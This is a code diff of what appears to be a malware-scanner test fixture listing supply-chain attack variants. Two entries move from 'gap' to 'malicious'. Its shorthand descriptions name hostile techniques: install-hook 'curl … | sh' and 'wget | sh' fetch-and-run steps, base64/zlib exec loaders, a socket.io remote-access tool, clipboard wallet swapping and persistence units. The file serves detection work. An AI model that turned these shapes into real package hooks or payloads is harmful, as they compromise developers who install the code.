@@ -72,7 +72,7 @@ const VARIANTS: Record<string, Variant> = {
   'm-postinstall-inline': { expect: 'malicious', tactic: 'placement', shape: 'postinstall node -e https.get … eval' },
   'm-devcontainer': { expect: 'malicious', tactic: 'placement', shape: 'devcontainer postCreateCommand runs extensionless .devcontainer/init' },
   'm-makefile': { expect: 'malicious', tactic: 'placement', shape: 'preinstall runs make; recipe curl raw-IP:1244/client | sh' },
-  'm-githooks-path': { expect: 'gap', tactic: 'placement', shape: 'prepare sets core.hooksPath to .githooks; post-checkout wget | sh' },
+  'm-githooks-path': { expect: 'malicious', tactic: 'placement', shape: 'prepare sets core.hooksPath to .githooks; post-checkout wget | sh' },
   // Python
   'm-py-zlib-exec': { expect: 'malicious', tactic: 'python', shape: 'test script exec(zlib.decompress(b64decode(…)))' },
   'm-py-marshal-exec': { expect: 'malicious', tactic: 'python', shape: 'package __init__ exec(marshal.loads(zlib(b64)))' },
@@ -93,7 +93,7 @@ const VARIANTS: Record<string, Variant> = {
   'm-rat-socketio': { expect: 'malicious', tactic: 'stealer', shape: 'silent socket.io-client install, whoIm/command events, clipboard polling' },
   'm-clipper': { expect: 'malicious', tactic: 'stealer', shape: 'clipboard polling every 500 ms replacing wallet addresses' },
   'm-persist': { expect: 'malicious', tactic: 'persistence', shape: 'postinstall writes LaunchAgent / systemd user unit, launchctl load, enable-linger' },
-  'm-electron-update': { expect: 'gap', tactic: 'persistence', shape: 'Electron UpdateCheckSync downloads an .exe from a raw IP and execFiles it' },
+  'm-electron-update': { expect: 'malicious', tactic: 'persistence', shape: 'Electron UpdateCheckSync downloads an .exe from a raw IP and execFiles it' },
   'm-svg-stego': { expect: 'gap', tactic: 'obfuscation', shape: 'base64 in two SVG comments, reassembled from readFileSync and evaled' },
   // Dependency-only lures
   'm-dep-only': { expect: 'malicious', tactic: 'dependency', shape: 'known lure package as the only suspicious thing' },
